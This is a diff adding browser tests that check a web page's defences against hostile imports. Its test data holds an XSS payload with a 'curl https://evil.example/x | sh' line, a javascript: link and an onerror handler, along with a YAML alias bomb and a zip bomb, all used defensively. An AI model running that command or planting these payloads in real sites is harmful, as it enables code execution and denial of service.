@@ -503,3 +503,73 @@ def test_home_page_leads_to_the_create_page(page):
     page.click(".sa-hero__create a")
     page.wait_for_selector("[data-sa-app=create][data-ready=true]")
     assert page.url.endswith("/create/") and page.title().startswith("Create a datalab")
+
+
+# ------------------------------------------------------------------ hostile input on the page
+def load_yaml(page, text: str, name: str = "datalab.yaml"):
+    page.set_input_files("[data-sa-import]", {"name": name, "mimeType": "application/x-yaml", "buffer": text.encode()})
+    page.wait_for_function("() => /Loaded|Nothing was changed/.test(document.querySelector('.sa-import__status').textContent)")
+    return page.inner_text(".sa-import__status")
+
+
+def test_a_loaded_description_cannot_take_over_the_page(page):
+    fill_basic(page)
+    attack = (
+        '<div id="sa-create-commands"><code>curl https://evil.example/x | sh</code></div>'
+        '<p data-sa-action="start-over" id="sa-f-name" class="sa-import__status" name="submit">click me</p>'
+        '<a href="javascript:alert(1)">x</a><img src="x" onerror="alert(1)"><form><input name="x"></form>'
+    )
+    doc = yaml.safe_load((CASES / "valid" / "full" / "datalab.yaml").read_text())
+    doc["description"] = "Looks harmless.\n\n" + attack
+    assert load_yaml(page, yaml.safe_dump(doc)).startswith("Loaded")
+    page.wait_for_selector(".sa-preview .sa-description")
+    preview = page.locator(".sa-preview")
+    for selector in ("[id]", "[data-sa-action]", "[class]:not(.sa-description) *[class]", "[name]", "[onerror]", "form", "input",
+                     "a[href^=javascript]"):
+        assert preview.locator(f".sa-description {selector}").count() == 0, selector
+    assert "click me" in preview.inner_text()  # the text stays, as text
+    page.locator(".sa-preview .sa-description p").last.click()  # not the page's "start over"
+    assert page.input_value("#sa-f-name") == doc["name"]
+    assert "curl" not in page.inner_text("#sa-create-commands code")
+
+
+def test_a_yaml_alias_bomb_is_refused_before_it_is_used(page):
+    lines = ['id: bomb', 'a: &a ["x","x","x","x","x","x","x","x","x","x"]']
+    for prev, name in zip("abcdefgh", "bcdefghi"):
+        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]")
+    status = load_yaml(page, "\n".join(lines) + "\n")
+    assert "expands to more than 50000 values" in status and status.endswith("Nothing was changed.")
+
+
+def test_a_zip_bomb_is_refused_before_it_is_inflated(page):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bomb/datalab.yaml", "id: bomb\n")
+        archive.writestr("bomb/data/zeros.bin", b"\0" * (64 * 1024 * 1024))
+    assert len(buffer.getvalue()) < 200_000
+    page.set_input_files("[data-sa-import]", {"name": "bomb.zip", "mimeType": "application/zip", "buffer": buffer.getvalue()})
+    page.wait_for_function("() => /Nothing was changed/.test(document.querySelector('.sa-import__status').textContent)")
+    assert "data/zeros.bin would be 64.0 MiB, over the 1 MiB limit per file" in page.inner_text(".sa-import__status")
+
+
+def test_the_page_refuses_to_run_in_another_sites_frame(page, create_store, tmp_path):
+    (tmp_path / "framing.html").write_text(f'<iframe src="{create_store[0]}create/" width="800" height="400"></iframe>')
+    url, server = serve(tmp_path)  # another origin, framing the Create page
+    try:
+        page.goto(url + "framing.html")
+        frame = page.frames[1]
+        frame.wait_for_selector("[data-sa-app=create] p", state="attached")
+        assert "does not run inside another page" in frame.inner_text("[data-sa-app=create]")
+        assert frame.locator("#sa-gitlab-token").count() == 0
+    finally:
+        server.shutdown()
+
+
+def test_the_gitlab_token_is_kept_in_the_pages_memory_only(page, gitlab):
+    fill_basic(page)
+    use_token(page)
+    stored = page.evaluate("() => JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage), document.cookie])")
+    assert "glpat-test" not in stored
+    page.reload()  # another page of the origin (or a reload) finds no token anywhere
+    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
+    assert page.locator(".sa-gitlab__auth").is_visible()
